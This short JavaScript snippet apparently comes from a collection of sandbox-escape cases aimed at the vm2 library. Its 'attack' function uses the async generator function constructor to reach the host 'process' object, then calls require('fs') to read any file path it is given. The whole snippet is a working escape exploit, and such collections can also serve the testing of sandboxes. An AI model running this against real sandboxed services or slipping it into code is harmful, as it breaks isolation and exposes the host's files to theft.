// And that of async generators.
// after: read
// source: vm2: function constructors
async function attack({ path }) {
  const make = Object.getPrototypeOf(async function* () {}).constructor;
  return { text: await (await make('yield process')().next()).value.mainModule.require('fs').readFileSync(path) };
}
